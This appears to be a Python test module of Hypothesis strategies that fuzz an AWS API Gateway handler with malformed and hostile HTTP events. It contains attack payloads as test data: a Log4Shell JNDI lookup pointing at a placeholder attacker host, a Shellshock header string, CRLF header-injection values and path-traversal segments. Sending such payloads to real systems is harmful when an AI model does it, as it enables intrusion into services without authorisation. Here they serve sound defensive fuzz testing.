"""Hypothesis strategies for what the internet (and careless invokers) send a public function."""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import unquote

from hypothesis import strategies as st

from tests.adversarial.contract import ROUTE_PATHS

JNDI = "${jndi:ldap://attacker.invalid/a}"

_VERBS = ["CONNECT", "DELETE", "GET", "HEAD", "OPTIONS", "PATCH", "POST", "PUT", "TRACE"]
methods = st.one_of(
    st.sampled_from(_VERBS),
    st.sampled_from(_VERBS).map(str.lower),
    st.sampled_from(["PROPFIND", "MKCOL", "BREW", "GET ", " HEAD", "HEAD\r\n", "ǅ", "ß"]),
    st.text(min_size=1, max_size=16),
)

_SEGMENTS = ["..", ".", "%2e%2e", "%2E%2E%2F", "%2F", "%00", "%", "%ZZ", "%C0%AE", "~", ";", "?", "#", "", "\\", "🐈"]
segments = st.one_of(st.sampled_from(_SEGMENTS), st.text(max_size=24))
_junk_paths = st.lists(segments, max_size=8).map(lambda parts: "/" + "/".join(parts))
_suffixed_routes = st.tuples(st.sampled_from(ROUTE_PATHS), _junk_paths).map(lambda pair: pair[0].rstrip("/") + pair[1])
_huge_paths = st.tuples(segments, st.integers(min_value=200, max_value=4_000)).map(
    lambda pair: "/" + "/".join([pair[0]] * pair[1])
)
paths = st.one_of(
    st.sampled_from(ROUTE_PATHS),
    _suffixed_routes,
    _junk_paths,
    _huge_paths,
    st.sampled_from(ROUTE_PATHS).map(str.upper),
)

_HEADER_NAMES = [
    "accept", "accept-encoding", "Accept-Encoding", "content-type", "content-length", "transfer-encoding",
    "cookie", "host", "user-agent", "x-api-version", "x-forwarded-for", "x-amzn-trace-id", "authorization",
    "origin", "if-none-match", "range", "",
]  # fmt: skip
_HEADER_VALUES = [
    "gzip", "gzip, deflate, br", "identity;q=0, gzip;q=0", "*/*", "application/json", "application/health+json",
    "text/html", JNDI, "a\r\nSet-Cookie: injected=1", "\r\n\r\n<html>", "-1", "99999999999999999999", "chunked",
    "bytes=0-0", "\x00", "Root=1-00000000-000000000000000000000000", "() { :; }; echo vulnerable",
]  # fmt: skip
header_values = st.one_of(
    st.sampled_from(_HEADER_VALUES),
    st.text(max_size=200),
    st.tuples(st.sampled_from(_HEADER_VALUES), st.integers(min_value=1, max_value=3_000)).map(lambda p: p[0] * p[1]),
    # duplicated headers reach payload 2.0 joined with commas
    st.lists(st.sampled_from(_HEADER_VALUES), min_size=2, max_size=4).map(",".join),
)
headers = st.dictionaries(st.one_of(st.sampled_from(_HEADER_NAMES), st.text(max_size=40)), header_values, max_size=12)
cookies = st.lists(st.one_of(st.just("session=abc"), st.just(JNDI), st.text(max_size=60)), max_size=6)
queries = st.dictionaries(st.text(max_size=20), st.text(max_size=60), max_size=6)
_binary = st.binary(max_size=2_000)
bodies = st.one_of(
    st.just((None, False)),
    st.tuples(st.text(max_size=2_000), st.just(False)),
    _binary.map(lambda raw: (base64.b64encode(raw).decode(), True)),
    st.tuples(st.text(max_size=200), st.just(True)),  # claims base64, is not
)


@st.composite
def http_events(draw: st.DrawFn) -> dict[str, Any]:
    """An API Gateway HTTP API payload 2.0 event with hostile method, path, headers and body."""
    method = draw(methods)
    raw_path = draw(paths)
    body, is_base64 = draw(bodies)
    query = draw(st.none() | queries)
    event: dict[str, Any] = {
        "version": "2.0",
        "routeKey": draw(st.sampled_from(["$default", f"{method} {raw_path}"])),
        "rawPath": raw_path,
        "rawQueryString": draw(st.text(max_size=200)),
        "headers": draw(headers),
        "requestContext": {
            "accountId": "123456789012",
            "apiId": "fuzz",
            "domainName": "fuzz.execute-api.eu-west-1.amazonaws.com",
            "http": {
                "method": method,
                "path": draw(st.sampled_from([unquote(raw_path), raw_path])),
                "protocol": draw(st.sampled_from(["HTTP/1.1", "HTTP/2.0", ""])),
                "sourceIp": draw(st.sampled_from(["203.0.113.10", "::1", "", "not-an-ip"])),
                "userAgent": draw(st.sampled_from(["curl/8.5.0", JNDI, ""])),
            },
            "requestId": draw(st.text(max_size=40)),
            "routeKey": "$default",
            "stage": draw(
                st.one_of(
                    st.just("$default"), st.sampled_from(["prod", "", "api/v1", "$default/x"]), st.text(max_size=12)
                )
            ),
            "time": "25/Nov/2026:18:00:00 +0000",
            "timeEpoch": 1764096000000,
        },
        "isBase64Encoded": is_base64,
    }
    for key, value in (
        ("queryStringParameters", query),
        ("cookies", draw(st.none() | cookies)),
        ("body", body),
        ("pathParameters", draw(st.none() | st.dictionaries(st.text(max_size=10), st.text(max_size=10), max_size=2))),
    ):
        if value is not None:
            event[key] = value
    return event


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda children: st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=20), children, max_size=5),
    max_leaves=30,
)


@st.composite
def mutated_http_events(draw: st.DrawFn) -> dict[str, Any]:
    """A valid event with one field, at any depth, replaced by any JSON value or removed."""
    event = draw(http_events())
    node: Any = event
    while True:
        key = draw(st.sampled_from(sorted(node)))
        if isinstance(node[key], dict) and node[key] and draw(st.booleans()):
            node = node[key]
            continue
        if draw(st.booleans()):
            del node[key]
        else:
            node[key] = draw(json_values)
        return event
